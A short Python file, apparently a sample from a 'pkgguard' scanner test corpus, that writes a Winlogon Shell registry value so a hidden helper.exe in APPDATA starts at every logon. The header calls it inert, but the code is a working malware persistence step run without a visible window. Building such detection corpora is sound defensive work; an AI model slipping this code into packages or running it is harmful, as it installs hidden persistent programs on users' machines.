# pkgguard corpus 283 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys

helper = os.path.join(os.environ.get("APPDATA", ""), "pkg", "helper.exe")
subprocess.run(
    [
        "reg", "add", r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon",
        "/v", "Shell", "/t", "REG_SZ", "/d", f"explorer.exe,{helper}", "/f",
    ],
    check=False,
    creationflags=getattr(subprocess, "CREATE_NO_WINDOW", 0),
)
